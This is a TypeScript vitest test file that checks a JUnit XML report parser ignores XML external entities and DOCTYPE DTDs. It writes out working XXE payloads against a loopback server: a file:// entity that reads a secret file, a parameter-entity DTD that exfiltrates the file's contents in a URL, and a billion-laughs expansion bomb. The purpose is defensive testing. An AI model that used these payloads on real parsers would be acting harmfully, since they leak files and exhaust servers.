/**
 * XXE for real: the payloads point at a file holding a secret and at a loopback HTTP server that
 * records every request. Nothing may be fetched, read or expanded.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parseJUnitFile, parseJUnitReports } from '../../../src/reports/junit/parse-junit.js';

let dir: string;
let server: Server;
let base: string;
const requests: string[] = [];
const SECRET = 'TOP-SECRET-4f1c9b';

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'self-heal-xxe-'));
  await writeFile(path.join(dir, 'secret.txt'), SECRET);
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    // What an attacker's server would answer: a DTD that defines entities exfiltrating the file.
    response.end(`<!ENTITY % all "<!ENTITY send SYSTEM '${base}/leak?d=%file;'>">%all;`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  await rm(dir, { recursive: true, force: true });
});

it('fetches nothing, reads nothing and expands nothing for external, parameter and nested entities', async () => {
  const secretUrl = `file://${path.join(dir, 'secret.txt')}`;
  const payloads = {
    'external.xml': `<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY secret SYSTEM "${secretUrl}"><!ENTITY remote SYSTEM "${base}/remote">]>
<testsuite name="&secret;"><testcase classname="&remote;" name="&secret;"><failure message="&secret;">&remote;&secret;</failure></testcase></testsuite>`,
    'parameter.xml': `<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY % file SYSTEM "${secretUrl}"><!ENTITY % dtd SYSTEM "${base}/evil.dtd">%dtd;%send;]>
<testsuite><testcase classname="p" name="reads on">&send;</testcase></testsuite>`,
    'doctype-system.xml': `<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "${base}/external-subset.dtd">
<testsuite><testcase classname="d" name="external subset">&fromSubset;</testcase></testsuite>`,
    'laughs.xml': `<?xml version="1.0"?>
<!DOCTYPE t [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c "${'&b;'.repeat(1000)}">]>
<testsuite><testcase classname="l" name="&c;"><failure message="&c;&c;&c;">&c;</failure></testcase></testsuite>`,
  };
  for (const [name, xml] of Object.entries(payloads)) await writeFile(path.join(dir, name), xml);

  const run = await parseJUnitReports(Object.keys(payloads), dir);
  expect(requests).toEqual([]);
  const everything = JSON.stringify(run);
  expect(everything).not.toContain(SECRET);
  expect(everything.length).toBeLessThan(20_000);
  expect(run.cases.map((c) => [c.classname, c.name])).toEqual([
    ['&remote;', '&secret;'],
    ['p', 'reads on'],
    ['d', 'external subset'],
    ['l', '&c;'],
  ]);
  expect(run.cases[0]!.failure).toEqual({ message: '&secret;', body: '&remote;&secret;' });
  expect(run.cases[3]!.failure).toEqual({ message: '&c;&c;&c;', body: '&c;' });
  // Each reference is reported where it is, with what happened to it.
  for (const error of run.errors) {
    expect(error.message).toMatch(
      /^[\w-]+\.xml:\d+:\d+: undefined entity reference, kept as literal text \(entities declared in a DOCTYPE are never expanded\)$/,
    );
  }
  expect(run.errors.map((e) => e.file)).toEqual([
    ...Array(6).fill('external.xml'),
    'parameter.xml',
    'doctype-system.xml',
    ...Array(5).fill('laughs.xml'),
  ]);
});

it('parses a report whose DOCTYPE names an unreachable DTD without trying to load it', async () => {
  const file = path.join(dir, 'unreachable.xml');
  await writeFile(
    file,
    `<!DOCTYPE testsuite PUBLIC "-//X//DTD X//EN" "${base}/never.dtd"><testsuite><testcase name="ok"/></testsuite>`,
  );
  const result = await parseJUnitFile(file);
  expect(result.errors).toEqual([]);
  expect(result.cases.map((c) => c.name)).toEqual(['ok']);
  expect(requests).toEqual([]);
});
